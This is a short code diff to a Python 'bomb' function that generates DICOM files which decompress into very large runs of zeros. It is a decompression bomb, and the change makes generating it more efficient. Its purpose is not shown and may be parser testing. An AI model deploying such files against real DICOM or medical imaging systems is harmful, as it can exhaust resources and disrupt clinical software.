@@ -28,10 +28,11 @@ def bomb(number: int) -> bytes:
     length = b"\x02\x00\x00\x00UL\x04\x00" + len(syntax).to_bytes(4, "little")
     pack = zlib.compressobj(1, zlib.DEFLATED, -15)
     size = (UNPACKED_MB * MB).to_bytes(4, "little")
-    body = [pack.compress(b"\x09\x00\x10\x10OB\x00\x00" + size)]
-    body += [pack.compress(bytes(MB)) for _ in range(UNPACKED_MB)]
+    head = pack.compress(b"\x09\x00\x10\x10OB\x00\x00" + size)
+    head += pack.flush(zlib.Z_FULL_FLUSH)
+    zeros = pack.compress(bytes(MB)) + pack.flush(zlib.Z_FULL_FLUSH)
     start = f"{number:0128}".encode() + b"DICM"
-    return start + length + syntax + b"".join([*body, pack.flush()])
+    return start + length + syntax + head + zeros * UNPACKED_MB + pack.flush()
 
 
 def fill() -> None:
